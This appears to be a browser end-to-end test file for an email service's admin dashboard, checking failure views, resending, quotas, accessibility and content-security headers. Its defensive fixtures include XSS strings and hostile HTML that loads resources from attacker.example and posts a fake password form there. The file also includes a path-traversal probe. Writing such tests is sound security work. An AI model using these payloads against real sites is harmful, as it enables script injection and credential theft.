/** The dashboard in a browser, against the whole local stack, with mail that was really sent and refused. */
import type { Browser, BrowserContextOptions, Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, onTestFinished, test, vi } from 'vitest';
import { findBrowser, startBrowser } from '../browser.ts';
import { atNoon, eventually, makeState, nowAtNoon, PATIENCE_MS, startTestStack } from '../e2e/harness.ts';
import type { TestStack, TestState } from '../e2e/harness.ts';
import { audit } from './audit.ts';
import type { OpenedDashboard } from './openDashboard.ts';
import { openDashboard } from './openDashboard.ts';
import type { Organisation } from './organisation.ts';
import { makeOrganisation, NO_MAILBOX, staff, writeHistory } from './organisation.ts';

const browserPath = findBrowser();

vi.setConfig({ testTimeout: 3 * PATIENCE_MS, hookTimeout: 3 * PATIENCE_MS });

const HISTORY_DAYS = 30;
const TENANT_LIMIT = 100_000;
const DAY_MS = 86_400_000;
/** More than a page of the list has. */
const CAPTURED = 55;

/** What would show that something a sender wrote has run, or was fetched. */
const FOREIGN = 'https://attacker.example';
const RUN = `<img src=x onerror="window.ran=1"><script>window.ran=1</script>`;
const EVIL_HTML = `
  <meta http-equiv="refresh" content="0;url=${FOREIGN}/refresh">
  <base href="${FOREIGN}/"><link rel="stylesheet" href="${FOREIGN}/style.css">
  <style>@import url(${FOREIGN}/import.css); body { background: url(${FOREIGN}/ground.png) }</style>
  ${RUN}<svg onload="window.ran=1"><image href="${FOREIGN}/svg.png"></svg>
  <iframe src="${FOREIGN}/frame"></iframe><object data="${FOREIGN}/object"></object>
  <form action="${FOREIGN}/form"><input name="password"><button>Log in</button></form>
  <img src="${FOREIGN}/pixel.png" alt="pixel"><p style="background:url(${FOREIGN}/p.png)">Harmless words</p>
  <a href="javascript:window.ran=1">a script</a> <a href="${FOREIGN}/link">a link</a>`;

let state: TestState;
let running: TestStack;
let organisation: Organisation;
let functions: string;
let browser: Browser;

beforeAll(async () => {
  if (browserPath === null) return;
  [state, browser] = await Promise.all([makeState(), startBrowser(browserPath)]);
  // The sweep comes every one and a half seconds.
  running = await startTestStack(state, { ...atNoon(), HVE_LOCAL_TIME_SCALE: '40' });
  const place = running.stack.endpoints();
  ({ functions } = place);
  organisation = makeOrganisation(place);
  await writeHistory(place, new Date(nowAtNoon()).toISOString().slice(0, 10), HISTORY_DAYS, TENANT_LIMIT);
  await fill();
});
afterAll(async () => {
  await browser?.close();
  await running?.stop();
  await state?.[Symbol.asyncDispose]();
});

const gone = ['t.berg', 'm.okafor', 'l.sanchez'].map((name) => `${name}@contoso.com`);
const ids: Record<'sent' | 'part' | 'scheduled' | 'held' | 'evil', string> = {
  sent: '',
  part: '',
  scheduled: '',
  held: '',
  evil: '',
};

/** What has happened by the time somebody looks. */
async function fill(): Promise<void> {
  for (const address of gone) await organisation.fault({ stage: 'rcpt', reply: NO_MAILBOX, address });
  await organisation.fault({ stage: 'rcpt', reply: NO_MAILBOX, address: 'part@contoso.com' });
  await organisation.fault({ stage: 'rcpt', reply: `554 5.0.0 ${RUN}`, address: 'evil@contoso.com' });
  await organisation.fault({ stage: 'end-of-data', reply: 'drop', address: 'held@contoso.com' });
  const submit = async (message: object): Promise<string> => organisation.submit({ text: 'x', ...message });
  const failed = await Promise.all(
    gone.map(async (to) =>
      submit({ app: 'payroll', to, subject: `Payslip for ${to}`, reference: `PAY ${to}` }),
    ),
  );
  ids.sent = await submit({
    app: 'portal',
    to: 'ann@contoso.com',
    cc: 'Ben Ode <ben@contoso.com>',
    subject: 'Reset your password',
    text: 'Open the portal.',
    html: '<h1>Open the portal</h1><p>It waits for you.</p>',
    tags: ['security'],
  });
  ids.part = await submit({
    app: 'expenses',
    to: ['part@contoso.com', 'whole@contoso.com'],
    subject: 'Your expense report was approved',
  });
  ids.scheduled = await submit({
    app: 'facilities',
    to: 'all@contoso.com',
    subject: 'Water is off on Sunday',
    sendAt: new Date(Date.now() + 3 * DAY_MS).toISOString(),
  });
  ids.held = await submit({
    app: 'portal',
    to: 'held@contoso.com',
    subject: 'Sign-in from Oslo',
    onUnknown: 'hold',
  });
  ids.evil = await submit({
    app: 'portal',
    from: { address: 'hve@contoso.com', displayName: RUN },
    to: { address: 'evil@contoso.com', displayName: RUN },
    subject: `Invoice ${RUN}`,
    reference: RUN,
    idempotencyKey: RUN,
    tags: [RUN],
    text: RUN,
    html: EVIL_HTML,
    metadata: { note: RUN },
  });
  await running.client.put({ app: 'crm', to: 'no address', subject: `Rejected ${RUN}`, text: 'x' });
  for (let n = 0; n < CAPTURED; n++) {
    await submit({ app: 'tests', to: 'x@contoso.com', subject: `Captured ${n}`, mode: 'capture' });
  }
  for (const id of failed) await organisation.until(id, 'failed');
  await organisation.until(ids.sent, 'sent');
  await organisation.until(ids.part, 'partially_sent');
  await organisation.until(ids.held, 'held');
  await organisation.until(ids.evil, 'failed');
  await organisation.untilLetters('reason=rejected', 1);
}

async function open(hash = '#/', options: BrowserContextOptions = {}): Promise<OpenedDashboard> {
  const opened = await openDashboard(browser, functions, hash, options);
  onTestFinished(async () => opened[Symbol.asyncDispose]());
  return opened;
}

/** A condition of the page; it may take as long as a busy machine does. */
const until = <Value>(read: () => Value): ReturnType<typeof expect.poll<Value>> =>
  expect.poll(read, { timeout: PATIENCE_MS });

const panel = (page: Page, title: string): Locator => page.getByRole('region', { name: title, exact: true });
const button = (within: Page | Locator, name: string): Locator =>
  within.getByRole('button', { name, exact: true });

const VIEWS = ['#/', '#/messages', '#/messages?status=failed', '#/dead-letters', '#/accounts'];

describe.skipIf(browserPath === null)('the dashboard', () => {
  test('shows on its first screen why messages failed and what to do, and how much of the limit is left', async () => {
    const { page, complaints, foreign } = await open();
    const group = panel(page, 'What failed, and what to do')
      .getByRole('listitem')
      .filter({ hasText: 'No such recipient' });
    await group.waitFor();
    // Those of the payroll, and the one half of the expense report.
    expect(await group.innerText()).toContain('4 messages');
    expect(await group.innerText()).toContain('Correct the address');
    expect(await group.innerText()).toContain('payroll');
    // Every answer that the page reads comes by itself.
    const tiles = page.locator('.tiles');
    await until(() => tiles.innerText()).toMatch(/Left today\n[\d,]+\n9\d% of 100,000/);
    await until(() => tiles.innerText()).toMatch(/Limit reached\nnot today/);
    const quota = panel(page, 'Quota');
    const meter = quota.getByRole('meter', { name: 'Quota of all mail' });
    expect(Number(await meter.getAttribute('aria-valuenow'))).toBeGreaterThan(0);
    expect(await meter.getAttribute('aria-valuetext')).toMatch(
      /used, .* leased, .* waiting, .* left of 100,000/,
    );
    const hours = panel(page, 'Hour by hour');
    expect(await hours.getByRole('img').getAttribute('aria-label')).toMatch(
      /^Recipients by hour of all mail: \d+ in all/,
    );
    await hours.getByText('As a table').click();
    await until(() => hours.getByRole('row').count()).toBe(25);
    const days = panel(page, 'Last 30 days');
    await until(() => days.locator('.bar:not(.none)').count()).toBe(HISTORY_DAYS);
    expect(await days.getByText('limit 100,000').count()).toBeGreaterThan(0);
    await panel(page, 'Latest messages')
      .getByRole('link', { name: /Captured/ })
      .first()
      .waitFor();
    await page.getByText('1 message waits for a person').waitFor();
    expect([complaints, foreign]).toEqual([[], []]);
  });

  test.each(['light', 'dark'] as const)(
    'is accessible while something has failed, in %s',
    async (colorScheme) => {
      const { page, go } = await open('#/', { colorScheme, bypassCSP: true });
      await page.locator('.group').first().waitFor();
      await page.getByText('1 message waits for a person').waitFor();
      expect(await audit(page)).toEqual([]);
      await go(`#/messages/${ids.held}`);
      await page.getByText('a person decides').first().waitFor();
      expect(await audit(page)).toEqual([]);
      await go('#/dead-letters');
      await page.getByLabel('Select all on this page').check();
      expect(await audit(page)).toEqual([]);
      await go('#/dead-letters?cause=no%20such%20recipient');
      await page.getByText('Only those with the cause').waitFor();
      expect(await audit(page)).toEqual([]);
    },
  );

  test('finds messages by what one knows of them, by status and app, page by page', async () => {
    const { page, complaints } = await open('#/messages');
    const rows = page.locator('.rows tbody tr');
    await until(() => rows.count()).toBe(50);
    await page.getByRole('link', { name: 'Older »' }).click();
    await page.getByRole('heading', { name: 'Older' }).waitFor();
    await rows.filter({ hasText: 'Water is off' }).waitFor();
    await page.goBack();
    await page.getByRole('heading', { name: 'Newest first' }).waitFor();
    await page.getByLabel('Search').fill('BEN@contoso');
    await page.keyboard.press('Enter');
    await until(() => rows.allInnerTexts()).toEqual([expect.stringContaining('Reset your password')]);
    expect(page.url()).toContain('search=BEN%40contoso');
    await button(page, 'Clear').click();
    await page.getByLabel('Status').selectOption('failed');
    await page.getByLabel('App').fill('payroll');
    await page.keyboard.press('Enter');
    await until(() => rows.count()).toBe(3);
    await page.getByLabel('App').fill('nobody');
    await page.keyboard.press('Enter');
    await page.getByText('No message matches.').waitFor();
    expect(complaints).toEqual([]);
  });

  test('shows one message: its time line, each recipient with cause and remedy, its content', async () => {
    const { page, complaints, go } = await open(`#/messages/${ids.part}`);
    await page.getByRole('heading', { name: 'Your expense report was approved' }).waitFor();
    const recipients = panel(page, 'Recipients').locator('.recipients > li');
    await until(() => recipients.count()).toBe(2);
    const [failed, accepted] = await recipients.allInnerTexts();
    expect(failed).toMatch(
      /failed[^]*part@contoso.com[^]*No such recipient\.[^]*What to do: Correct the address\.[^]*550 5\.1\.10/,
    );
    expect(accepted).toMatch(/accepted[^]*whole@contoso.com/);
    const events = await panel(page, 'Time line').locator('h3').allInnerTexts();
    expect(events).toEqual(['Accepted', 'Attempt 1', 'Partially sent']);
    await go(`#/messages/${ids.sent}`);
    await button(page, 'Show the content').click();
    await until(() => page.getByRole('tabpanel').innerText()).toBe('Open the portal.');
    expect(await page.locator('.facts').last().innerText()).toContain('Ben Ode <ben@contoso.com>');
    await page.getByRole('tab', { name: 'Text' }).press('ArrowRight');
    await page.frameLocator('iframe').getByRole('heading', { name: 'Open the portal' }).waitFor();
    await page.getByRole('tab', { name: 'As submitted' }).click();
    expect(await page.getByRole('tabpanel').innerText()).toContain('"app": "portal"');
    expect(complaints).toEqual([]);
  });

  test('does nothing that a sender wrote: no script runs, no form is there, nobody else is asked', async () => {
    const { page, complaints, foreign, go } = await open('#/');
    for (const hash of ['#/', '#/messages?app=portal', '#/dead-letters', `#/messages/${ids.evil}`]) {
      await go(hash);
      await page.getByText('window.ran').first().waitFor();
    }
    await button(page, 'Show the content').click();
    await page.getByRole('tab', { name: 'HTML' }).click();
    const preview = page.frameLocator('iframe');
    await preview.getByText('Harmless words').waitFor();
    expect(await preview.locator('body').innerText()).toContain(`a link <${FOREIGN}/link>`);
    expect(
      await preview.locator('script, style, form, input, iframe, object, svg, base, a, [style]').count(),
    ).toBe(0);
    expect(await preview.locator('img').count()).toBe(0);
    expect(await page.locator('iframe').getAttribute('sandbox')).toBe('');
    const letters = await organisation.get<{ items: { id: string }[] }>('dead-letters?reason=rejected');
    await go(`#/dead-letters/${letters.items[0]!.id}`);
    await page.getByText('window.ran').first().waitFor();
    for (const frame of page.frames())
      expect(await frame.evaluate(() => Reflect.get(globalThis, 'ran'))).toBeUndefined();
    expect([complaints, foreign]).toEqual([[], []]);
  });

  test('would be seen to, if it wrote markup as markup', async () => {
    const { page, foreign } = await open('#/', { bypassCSP: true });
    const markup = JSON.stringify(`${RUN}<img src="${FOREIGN}/pixel.png">`);
    await page.evaluate(`document.body.insertAdjacentHTML('beforeend', ${markup})`);
    await until(() => page.evaluate('window.ran')).toBe(1);
    // The two are told of one by one.
    await expect.poll(() => foreign).toContain(`${FOREIGN}/pixel.png`);
  });

  test('sends failures again, and they arrive', async () => {
    const { page, complaints } = await open();
    await organisation.clearFaults();
    await organisation.put('apps/payroll', { quotaPerDay: 1 });
    await button(page, 'Send again: no such recipient').click();
    const dialog = page.getByRole('dialog');
    await dialog
      .getByText('The quota of app payroll has room for 1 only, and 3 recipients count against it')
      .waitFor();
    await button(dialog, 'Not now').click();
    await organisation.put('apps/payroll', { quotaPerDay: null });
    await eventually(
      async () =>
        (await organisation.get<{ scopes: { scope: string; limit: number | null }[] }>('usage')).scopes,
      (scopes) => scopes.every(({ scope, limit }) => scope !== 'app:payroll' || limit === null),
      'the limit is gone',
    );
    await button(page, 'Send again: no such recipient').click();
    await dialog.getByText('4 deliveries go again').waitFor();
    expect(await dialog.getByText('The quota of').count()).toBe(0);
    // Nothing has been sent yet: that was only looked at.
    expect((await running.client.mails()).some(({ to }) => gone.includes(to[0] ?? ''))).toBe(false);
    await button(dialog, 'Send all 4 again').click();
    await page.getByText('4 deliveries go on').waitFor();
    const arrived = await eventually(
      async () => (await running.client.mails()).flatMap(({ to }) => to),
      (to) => [...gone, 'part@contoso.com'].every((address) => to.includes(address)),
      'every one of them has its mail',
    );
    // Who had it already has not got it again.
    expect(arrived.filter((address) => address === 'whole@contoso.com')).toHaveLength(1);
    // No pointer, so that the focus is where the dialog has left it: on a button that leaves with its row.
    await button(page, 'Refresh').dispatchEvent('click');
    await until(() => page.getByText('No such recipient').count()).toBe(0);
    expect(await page.evaluate('document.activeElement.id')).toBe('title');
    expect(complaints).toEqual([]);
  });

  test('sends dead letters again one by one, and says which do not go and why', async () => {
    const { page } = await open('#/dead-letters');
    const letters = page.locator('.letters > li');
    await until(() => letters.count()).toBe(2);
    expect(await button(page, 'Send selected again').isDisabled()).toBe(true);
    await letters.filter({ hasText: 'rejected' }).getByRole('checkbox').check();
    await page.getByText('1 selected').waitFor();
    await button(page, 'Send selected again').click();
    const dialog = page.getByRole('dialog');
    await dialog.getByRole('heading', { name: 'Nothing can be sent again' }).waitFor();
    await dialog.getByText('still not valid').waitFor();
    await button(dialog, 'Close').click();
    await page.getByLabel('Select all on this page').check();
    await page.getByText('2 selected').waitFor();
    await button(page, 'Send selected again').click();
    await dialog.getByText('1 delivery goes again').waitFor();
    await button(dialog, 'Send it again').click();
    await dialog.getByRole('heading', { name: 'Sent again' }).waitFor();
    await dialog.getByText('still not valid').waitFor();
    await button(dialog, 'Close').click();
    await organisation.until(ids.evil, 'sent');
    await page.getByLabel('Reason').selectOption('rejected');
    await until(() => letters.count()).toBe(1);
    await letters.getByRole('link', { name: 'Details' }).click();
    expect(await panel(page, 'As it came').locator('pre').innerText()).toContain('no address');
  });

  test('cancels what is scheduled and releases what is held', async () => {
    const { page, go } = await open(`#/messages/${ids.scheduled}`);
    await button(page, 'Cancel').click();
    await button(page.getByRole('dialog'), 'Cancel the message').click();
    await page.getByText('1 delivery stopped').waitFor();
    await page.locator('.view-head .pill', { hasText: 'canceled' }).waitFor();
    expect(await button(page, 'Cancel').count()).toBe(0);
    await go(`#/messages/${ids.held}`);
    await page.getByText('a person decides').first().waitFor();
    await button(page, 'Release').click();
    await button(page.getByRole('dialog'), 'Release').click();
    await page.locator('.view-head .pill', { hasText: 'sent' }).waitFor();
  });

  test('pauses an account with a reason that everybody sees, and resumes it', async () => {
    const { page, complaints } = await open('#/accounts');
    await button(page, 'Pause payroll@contoso.com').click();
    await page.getByLabel('Reason').fill('audit until Tuesday');
    await button(page.getByRole('dialog'), 'Pause the account').click();
    await page.getByText('Payroll@contoso.com is paused.').waitFor();
    const account = page.locator('.accounts > li', { hasText: 'payroll@contoso.com' });
    await account.getByText('Audit until Tuesday.').waitFor();
    const health = page.getByRole('region', { name: 'Health' });
    await health.getByText('Paused by a person: audit until Tuesday.').waitFor();
    await button(page, 'Resume payroll@contoso.com').click();
    await button(page.getByRole('dialog'), 'Resume the account').click();
    await account.getByText('active').waitFor();
    await button(page, 'Pause everything').click();
    await button(page.getByRole('dialog'), 'Pause everything').click();
    await until(() => page.locator('.accounts .pill.bad').count()).toBe(2);
    await button(page, 'Resume everything').first().click();
    await button(page.getByRole('dialog'), 'Resume everything').click();
    await until(() => page.locator('.accounts .pill.good').count()).toBe(2);
    expect(complaints).toEqual([]);
  });

  test('shows a large message on its way, with a bar that moves by itself', async () => {
    await organisation.fault({ stage: 'end-of-data', reply: '451 4.7.0 Temporary server error', share: 0.5 });
    const id = await organisation.submit({
      app: 'intranet',
      to: staff(1200),
      subject: 'Town hall',
      text: 'x',
      priority: 'bulk',
    });
    const { page } = await open();
    const going = panel(page, 'In progress').getByRole('listitem').filter({ hasText: 'Town hall' });
    await going.waitFor();
    await organisation.clearFaults();
    await going.getByRole('link').click();
    const bar = page.locator('.counts').getByRole('progressbar');
    await until(() => bar.getAttribute('aria-valuenow')).toBe('1200');
    await page.locator('.view-head .pill', { hasText: 'sent' }).waitFor();
    expect(await panel(page, 'Recipients').locator('.recipients > li').count()).toBe(50);
    await button(page, 'Show 50 more recipients').click();
    await until(() => panel(page, 'Recipients').locator('.recipients > li').count()).toBe(100);
    await page.getByPlaceholder('Find a recipient').fill('staff-1199');
    await until(() => panel(page, 'Recipients').locator('.recipients > li').count()).toBe(1);
    expect((await organisation.get<{ status: string }>(`messages/${id}`)).status).toBe('sent');
  });

  test('says from when it is while the app does not answer, and is never blank', async () => {
    const { page } = await open();
    await panel(page, 'Latest messages').getByRole('link').nth(1).waitFor();
    await page.getByRole('meter').first().waitFor();
    await page.route('**/api/usage', (route) => route.abort());
    await page.route('**/api/messages?*', (route) =>
      route.fulfill({
        status: 503,
        contentType: 'application/problem+json',
        body: JSON.stringify({
          status: 503,
          code: 'unavailable',
          title: 'Storage does not answer',
          detail: 'nothing was lost',
          errors: [],
        }),
      }),
    );
    await button(page, 'Refresh').click();
    await page.getByText('Partly stale').waitFor();
    const quota = panel(page, 'Quota');
    expect(await quota.locator('.stale').innerText()).toMatch(
      /^As of \d\d:\d\d:\d\d\. It could not be read anew:[^]*cannot be reached/,
    );
    expect(await quota.getByRole('meter').count()).toBeGreaterThan(0);
    await until(() => panel(page, 'Latest messages').innerText()).toContain(
      'Storage does not answer. Nothing was lost.',
    );
    await page.unroute('**/api/usage');
    await page.unroute('**/api/messages?*');
    await button(page, 'Refresh').click();
    await page.getByText('Updated').waitFor();
    expect(await page.locator('.stale').count()).toBe(0);
  });

  test('is used with the keyboard alone: skip link, views, dialogs, and the focus comes back', async () => {
    const { page } = await open();
    await page.getByRole('meter').first().waitFor();
    const focused = (): Promise<string> => page.evaluate<string>(`document.activeElement?.textContent ?? ''`);
    await page.keyboard.press('Tab');
    await until(focused).toBe('Skip to the content');
    await page.keyboard.press('Enter');
    expect(await page.evaluate('document.activeElement?.id')).toBe('main');
    expect(page.url()).not.toContain('#main');
    await page.getByRole('link', { name: 'Accounts' }).focus();
    await page.keyboard.press('Enter');
    await page.getByRole('heading', { name: 'Sender accounts' }).waitFor();
    await until(focused).toBe('Sender accounts');
    const pause = button(page, 'Pause hve@contoso.com');
    await pause.waitFor();
    for (let n = 0; n < 20 && !(await pause.evaluate((element) => element.matches(':focus'))); n++) {
      await page.keyboard.press('Tab');
    }
    await page.keyboard.press('Enter');
    await page.getByRole('dialog').waitFor();
    // The focus stays within: round about the reason, two buttons, and the browser's own.
    for (let n = 0; n < 8; n++) {
      await page.keyboard.press('Tab');
      expect(await page.evaluate(`document.activeElement?.closest('dialog, body')?.tagName`)).toMatch(
        /DIALOG|BODY/,
      );
    }
    await page.keyboard.press('Escape');
    await until(() => page.getByRole('dialog').count()).toBe(0);
    expect(await pause.evaluate((element) => element.matches(':focus'))).toBe(true);
    expect(await page.title()).toBe('Sender accounts – hve-mailer');
  });

  test('offers a sign-in where the app wants one, and shows nothing any more', async () => {
    const { page } = await open();
    const deny = (headers: Record<string, string>) =>
      page.route('**/api/*', (route) => route.fulfill({ status: 401, headers, body: '' }));
    await deny({ 'www-authenticate': 'Bearer' });
    // It asks again by itself, within 15 seconds.
    const link = page.getByRole('link', { name: 'Sign in' });
    await link.waitFor();
    expect(await link.getAttribute('href')).toBe(
      '/.auth/login/aad?post_login_redirect_uri=%2Fapi%2Fdashboard',
    );
    expect(await page.getByRole('meter').count()).toBe(0);
  });

  describe('is accessible', () => {
    const looks = [
      ['in light', { colorScheme: 'light' }],
      ['in dark', { colorScheme: 'dark' }],
      ['on a phone', { viewport: { width: 375, height: 740 } }],
    ] as const satisfies readonly (readonly [string, BrowserContextOptions])[];

    test.each(looks)(
      '%s: axe finds nothing on any view, and nothing is wider than the page',
      async (_name, look) => {
        // axe writes into the page, which its policy would refuse.
        const { page, go } = await open('#/', { ...look, bypassCSP: true });
        const letters = await organisation.get<{ items: { id: string }[] }>('dead-letters?reason=rejected');
        const details = [
          `#/messages/${ids.part}`,
          `#/messages/${ids.evil}`,
          `#/dead-letters/${letters.items[0]!.id}`,
        ];
        for (const hash of [...VIEWS, ...details]) {
          await go(hash);
          await page.locator('main .loading').first().waitFor({ state: 'detached' });
          if (hash === details[1]) await button(page, 'Show the content').click();
          expect([hash, await audit(page)]).toEqual([hash, []]);
          expect([hash, await widerThanPage(page)]).toEqual([hash, 0]);
        }
        await go('#/accounts');
        await button(page, 'Pause everything').click();
        await page.getByRole('dialog').waitFor();
        expect(['dialog', await audit(page)]).toEqual(['dialog', []]);
        await button(page.getByRole('dialog'), 'Pause everything').click();
        await page.getByRole('region', { name: 'Health' }).waitFor();
        await page.route('**/api/usage', async (route) => route.abort());
        await button(page, 'Refresh').click();
        await page.getByText('Partly stale').waitFor();
        expect(['in trouble', await audit(page)]).toEqual(['in trouble', []]);
        await go('#/');
        await page.getByText('The app cannot be reached').first().waitFor();
        expect(['in trouble', await audit(page)]).toEqual(['in trouble', []]);
        expect(['in trouble', await widerThanPage(page)]).toEqual(['in trouble', 0]);
        await running.client.post('/api/resume', {});
      },
    );

    test('axe would find what is wrong', async () => {
      const { page } = await open('#/accounts', { bypassCSP: true });
      await page.evaluate(`document.body.append(Object.assign(new Image(), { src: 'dashboard/icon.svg' }))`);
      expect(await audit(page)).toContainEqual(expect.stringContaining('image-alt'));
    });

    function widerThanPage(page: Page): Promise<number> {
      return page.evaluate<number>(
        'document.documentElement.scrollWidth - document.documentElement.clientWidth',
      );
    }
  });

  test('is served with a policy that lets in nothing from elsewhere, and anew only when it has changed', async () => {
    const address = `${functions}/api/dashboard`;
    const page = await fetch(address);
    const policy = page.headers.get('content-security-policy') ?? '';
    expect(policy).not.toContain('unsafe');
    for (const rule of [
      "default-src 'none'",
      "script-src 'self'",
      "style-src 'self'",
      "frame-ancestors 'none'",
      "base-uri 'none'",
      "form-action 'none'",
    ]) {
      expect(policy.split('; ')).toContain(rule);
    }
    expect(page.headers.get('x-content-type-options')).toBe('nosniff');
    expect(page.headers.get('referrer-policy')).toBe('no-referrer');
    const markup = await page.text();
    expect(markup).not.toMatch(/<script(?![^>]*src=)|<style|style=|\son\w+=|https?:/);
    const again = await fetch(address, { headers: { 'if-none-match': page.headers.get('etag') ?? '' } });
    expect(again.status).toBe(304);
    expect((await fetch(`${address}/`, { redirect: 'manual' })).headers.get('location')).toBe('../dashboard');
    expect((await fetch(`${address}/main.cjs`)).status).toBe(404);
    expect((await fetch(`${address}/..%2Fmain.cjs`)).status).toBe(404);
  });
});
